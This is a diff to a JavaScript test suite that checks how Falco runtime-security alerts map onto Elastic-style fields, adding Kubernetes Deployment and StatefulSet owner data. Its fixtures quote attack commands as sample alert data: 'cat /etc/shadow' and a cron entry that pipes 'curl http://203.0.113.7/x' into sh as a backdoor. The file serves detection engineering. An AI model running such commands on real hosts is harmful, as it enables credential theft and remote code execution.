@@ -67,9 +67,16 @@ test('falco: maps the alert like Elastic’s Falco integration', () => {
   assert.deepEqual(event.process, { name: 'cat', executable: '/usr/bin/cat', command_line: 'cat /etc/shadow', parent: { name: 'bash' } });
   assert.deepEqual(event.user, { name: 'root', id: '0' });
   assert.deepEqual(event.container, { id: '3ad7b26ded6d', name: 'payments-api', image: { name: 'registry.example.com/payments/api', tag: ['2.4.1'] } });
-  assert.deepEqual(event.orchestrator, { type: 'kubernetes', namespace: 'payments', resource: { type: 'pod', name: 'payments-api-7d9c8f5b6-x2x7q' } });
+  assert.deepEqual(event.orchestrator, {
+    type: 'kubernetes', namespace: 'payments',
+    resource: { name: 'payments-api-7d9c8f5b6-x2x7q', type: 'pod', parent: { type: 'Deployment' } },
+  });
+  assert.deepEqual(event.kubernetes, {
+    pod: { name: 'payments-api-7d9c8f5b6-x2x7q' }, namespace: 'payments',
+    replicaset: { name: 'payments-api-7d9c8f5b6' }, deployment: { name: 'payments-api' },
+  });
   assert.deepEqual(event.file, { path: '/etc/shadow', name: 'shadow' });
-  assert.deepEqual(event.threat, { framework: 'MITRE ATT&CK', tactic: { id: ['TA0006'], name: ['Credential Access'] }, technique: { id: ['T1555'] } });
+  assert.deepEqual(event.threat, { framework: 'MITRE ATT&CK', tactic: { id: ['TA0006'], name: ['Credential Access'] }, technique: { id: ['T1555'], name: ['Credentials from Password Stores'] } });
 });
 
 test('falco: keeps the alert under falco.* with output_fields keys verbatim, nulls included', () => {
@@ -89,6 +96,18 @@ test('falco: a host event has no container and no orchestrator', () => {
   assert.equal(event.orchestrator, undefined);
   assert.equal(event.file?.path, '/etc/cron.d/backdoor');
   assert.equal(event.process?.parent?.command_line, "bash -c echo '* * * * * root curl -s http://203.0.113.7/x | sh' > /etc/cron.d/backdoor");
+});
+
+test('falco: a pod whose name has no controller shape is a pod without an owner', () => {
+  const event = one(alert({}, { 'k8s.pod.name': 'debug-shell', 'k8s.ns.name': 'default', 'container.id': 'abc123' }));
+  assert.deepEqual(event.orchestrator?.resource, { type: 'pod', name: 'debug-shell' });
+  assert.equal(event.kubernetes, undefined);
+});
+
+test('falco: a StatefulSet pod names its owner', () => {
+  const event = one(alert({}, { 'k8s.pod.name': 'web-10', 'k8s.ns.name': 'default', 'container.id': 'abc123' }));
+  assert.deepEqual(event.orchestrator?.resource, { name: 'web-10', type: 'pod', parent: { type: 'StatefulSet' } });
+  assert.deepEqual(event.kubernetes, { pod: { name: 'web-10' }, namespace: 'default', statefulset: { name: 'web' } });
 });
 
 test('falco: a socket alert maps source and destination, not a file', () => {
